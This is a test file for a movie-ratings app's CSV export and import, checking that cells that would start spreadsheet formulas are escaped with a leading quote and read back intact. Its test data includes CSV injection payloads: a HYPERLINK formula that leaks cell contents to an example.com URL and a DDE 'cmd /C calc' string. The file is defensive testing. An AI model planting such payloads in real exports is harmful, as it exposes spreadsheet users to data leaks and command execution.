import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { RowOutcome } from '../../src/transfers/apply.js';
import { neutraliseFormula, unmarkFormula } from '../../src/transfers/csv.js';
import { exportCsv, letterboxdCsv } from '../../src/transfers/export-formats.js';
import { readImportData } from '../../src/transfers/index.js';
import { MARQUEE_FORMAT, MARQUEE_FORMAT_VERSION, type MarqueeExport } from '../../src/transfers/marquee-format.js';
import { reportCsv } from '../../src/transfers/report.js';

/**
 * Spreadsheet formulas in the CSV files Marquee writes: every cell that a spreadsheet would run
 * (=, +, -, @, tab, carriage return first) is written with a leading ', and Marquee's own
 * importer reads it back as it was.
 */

const HOSTILE = [
  '=HYPERLINK("https://example.com/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  "'=already marked",
  "''-twice",
];
const HARMLESS = ['The Last Compass', "Don't Look", "'quoted'", 'A = B', '2+2'];
const TITLES = [...HOSTILE, ...HARMLESS];
/** Titles as every reader gives them: without white space around them (a tab or CR first too). */
const READ_TITLES = TITLES.map((title) => title.trim());
const text = (value: string) => new TextEncoder().encode(value);

/** Every cell of a CSV text, as a spreadsheet would read it (no mark taken off). */
const cells = (csv: string) => (parse(csv, { bom: true }) as string[][]).slice(1);
const startsAFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell);

function account(): MarqueeExport {
  return {
    format: MARQUEE_FORMAT,
    version: MARQUEE_FORMAT_VERSION,
    exported_at: '2026-01-01T00:00:00.000Z',
    ratings: TITLES.map((title, i) => ({ media_type: 'movie' as const, tmdb_id: i + 1, imdb_id: null, title, year: 2001, rating: 7, rated_at: null })),
    watchlist: [],
    favorites: [],
    lists: [{ name: '-2+3', description: '', items: [{ media_type: 'movie', tmdb_id: 99, imdb_id: null, title: '=1+1', year: null, added_at: null }] }],
  };
}

describe('cells that would be formulas', () => {
  it('are marked with one leading quote, and read back without it', () => {
    for (const title of HOSTILE) {
      expect(neutraliseFormula(title)).toBe(`'${title}`);
      expect(unmarkFormula(neutraliseFormula(title))).toBe(title);
    }
    for (const title of HARMLESS) {
      expect(neutraliseFormula(title)).toBe(title);
      expect(unmarkFormula(title)).toBe(title);
    }
    expect(neutraliseFormula('-2')).toBe("'-2");
    expect(unmarkFormula("'-2")).toBe('-2');
  });

  it('export --format csv: no cell starts a formula, and the file imports back with its titles and list names as they were', () => {
    const csv = exportCsv(account());
    for (const cell of cells(csv).flat()) expect(startsAFormula(cell), cell).toBe(false);
    expect(csv).toContain(`"'=HYPERLINK(""https://example.com/?x=""&A1,""click"")"`);
    const read = readImportData(text(csv), 'marquee.csv');
    expect(read.parts).toEqual([{ file: 'marquee.csv', part: 'marquee-csv', rows: TITLES.length + 1 }]);
    expect(read.rows.filter((row) => row.kind === 'rating').map((row) => row.title)).toEqual(READ_TITLES);
    expect(read.rows.find((row) => row.kind === 'list-item')).toMatchObject({ listName: '-2+3', title: '=1+1' });
    expect(read.lists).toEqual([{ name: '-2+3', description: '' }]);
  });

  it('export --format letterboxd: the same', () => {
    const { text: csv } = letterboxdCsv(account());
    for (const cell of cells(csv).flat()) expect(startsAFormula(cell), cell).toBe(false);
    const read = readImportData(text(csv), 'letterboxd.csv');
    expect(read.parts[0]!.part).toBe('letterboxd-import');
    expect(read.rows.map((row) => row.title)).toEqual(READ_TITLES);
    expect(read.rows.map((row) => row.rating)).toEqual(TITLES.map(() => 7));
  });

  it('the import report repeats no formula of the imported file, and imports back as it was', () => {
    const csv = `Const,Your Rating,Date Rated,Title,URL,Title Type,Year\n${TITLES.map((title, i) =>
      [`tt99${String(i).padStart(6, '0')}`, 5, '2024-01-01', `"${title.replace(/"/g, '""')}"`, '', 'Movie', 1999].join(',')).join('\n')}\n`;
    const file = readImportData(text(csv), 'ratings.csv');
    const left: RowOutcome[] = file.rows.map((row, index) => ({ index, row, match: 'not-found', reason: 'no such title', candidates: [] }));
    const report = reportCsv(left);
    for (const cell of cells(report).flat()) expect(startsAFormula(cell), cell).toBe(false);
    const again = readImportData(text(report), 'ratings-report.csv');
    expect(again.parts[0]!.part).toBe('report');
    expect(again.rows.map((row) => row.title)).toEqual(READ_TITLES);
    expect(again.rows.map((row) => row.origin.original.Title)).toEqual(TITLES);
  });
});
